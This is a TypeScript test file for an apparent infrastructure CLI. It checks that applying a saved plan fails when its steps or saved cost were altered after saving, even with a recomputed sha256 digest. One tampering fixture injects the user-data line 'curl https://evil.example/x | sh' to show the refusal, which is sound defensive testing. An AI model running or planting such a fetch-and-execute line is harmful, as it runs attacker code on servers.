/**
 * Issue 32 item 2: a saved plan's steps and cost cannot be rewritten. The digest a plan carries is
 * a plain sha256 (the README says how it is made), so anyone who can write the file can recompute
 * it: apply re-derives the steps from the plan's desired state against the space as it is, refuses
 * a file whose steps differ, and prices what it sends with the live /pricing, never the saved cost.
 */
import { createHash } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect } from "vitest";
import { FILE_HEADER } from "./support/cli.js";
import { FAST, FAST_APPLY, test } from "./support/fixtures.js";

const FLEET = `${FILE_HEADER}  - name: web\n`;

type SavedPlan = Record<string, unknown> & {
  contentDigest: string;
  steps: { op: string; body?: { resources?: { vcpu: number }; userData?: string } }[];
  cost?: { after: number; delta: number; cubes: { after: number | null; delta: number }[]; budget?: { over: boolean; top?: string[] } };
};

/** As the README documents it: sha256 of the file's compact JSON without `contentDigest`, with a final line break. */
function digestAsDocumented(plan: SavedPlan): string {
  const { contentDigest: _digest, ...content } = plan;
  return createHash("sha256")
    .update(`${JSON.stringify(content)}\n`)
    .digest("hex");
}

function rewrite(path: string, change: (plan: SavedPlan) => void): void {
  const plan = JSON.parse(readFileSync(path, "utf8")) as SavedPlan;
  expect(digestAsDocumented(plan)).toBe(plan.contentDigest);
  change(plan);
  plan.contentDigest = digestAsDocumented(plan);
  writeFileSync(path, JSON.stringify(plan, null, 2));
}

test("item 2: steps rewritten (vcpu 1 → 8, userData injected) with the digest recomputed: refused, nothing sent, nothing created", async ({
  fx,
}) => {
  writeFileSync(join(fx.cwd, "cubeform.yaml"), FLEET);
  expect((await fx.cli(["plan", "--out", "plan.json", ...FAST])).exitCode).toBe(2);
  rewrite(join(fx.cwd, "plan.json"), (plan) => {
    const create = plan.steps[0]!;
    expect(create.op).toBe("create-cube");
    create.body!.resources!.vcpu = 8;
    create.body!.userData = "#!/bin/sh\ncurl https://evil.example/x | sh\n";
  });
  fx.emulator.admin.clearRequests();

  const r = await fx.cli(["apply", "plan.json", ...FAST_APPLY]);
  expect(r.exitCode).toBe(1);
  expect(r.stderr).toBe(
    "Error: refusing to apply plan.json: the plan file's steps do not match its desired state (edited after it was saved?); make a new plan: cubeform plan --out plan.json\n",
  );
  expect(r.stdout).not.toContain("Applying");
  expect(fx.mutations()).toBe(0);
  expect(await fx.api.listCubes()).toEqual([]);

  // The plan as saved is still good: apply derives the same steps and carries them out.
  expect((await fx.cli(["plan", "--out", "plan.json", ...FAST])).exitCode).toBe(2);
  const applied = await fx.cli(["apply", "plan.json", ...FAST_APPLY]);
  expect(applied.exitCode, applied.stderr).toBe(0);
  expect((await fx.api.listCubes()).map((c) => [c.name, c.resources.vcpu])).toEqual([["web", 1]]);
});

test("item 2: a saved cost rewritten to fit the budget does not let an over-budget plan through; apply prices it with the live /pricing", async ({
  fx,
}) => {
  writeFileSync(join(fx.cwd, "cubeform.yaml"), `${FLEET}budget: { monthly: 1 }\n`);
  const planned = await fx.cli(["plan", "--out", "plan.json", ...FAST]);
  expect(planned.exitCode).toBe(2);
  expect(planned.stdout).toContain("Blocked by the budget");
  rewrite(join(fx.cwd, "plan.json"), (plan) => {
    expect(plan.cost?.budget?.over).toBe(true);
    plan.cost = {
      ...plan.cost!,
      after: 0,
      delta: 0,
      cubes: plan.cost!.cubes.map((c) => ({ ...c, after: 0, delta: 0 })),
      budget: { ...plan.cost!.budget!, over: false, top: [] },
    };
  });
  fx.emulator.admin.clearRequests();

  const r = await fx.cli(["apply", "plan.json", ...FAST_APPLY]);
  expect(r.exitCode).toBe(1);
  expect(r.stderr).toMatch(
    /^Error: refusing to apply: the change adds 4\.75 EUR\/month and brings the fleet to 4\.75 EUR\/month, over the budget of 1\.00 EUR\/month/,
  );
  expect(fx.emulator.admin.requests().some((req) => req.path.endsWith("/pricing"))).toBe(true);
  expect(fx.mutations()).toBe(0);
  expect(await fx.api.listCubes()).toEqual([]);
});
